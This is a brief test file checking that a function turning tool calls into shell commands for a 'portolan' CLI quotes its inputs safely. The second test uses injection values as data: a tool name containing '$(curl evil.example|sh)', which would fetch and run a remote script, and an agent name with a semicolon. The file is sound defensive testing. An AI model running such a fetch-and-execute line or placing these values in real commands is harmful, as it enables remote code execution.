import { expect, it } from 'vitest'
import { callCommand } from './call-command.ts'

it('writes a call as a command for a shell', () => {
  const call = { agent: 'ada', server: 'tickets', tool: 'list_tickets' }
  expect(callCommand(call, `{"q":"it's"}`)).toBe(
    `portolan call tickets__list_tickets '{"q":"it'\\''s"}' --agent ada`,
  )
})

it('never lets a name of strangers run in the shell of the reader', () => {
  const call = { agent: 'a;b', server: 'evil', tool: '$(curl evil.example|sh)' }
  expect(callCommand(call, '{}')).toBe(
    `portolan call 'evil__$(curl evil.example|sh)' '{}' --agent 'a;b'`,
  )
})
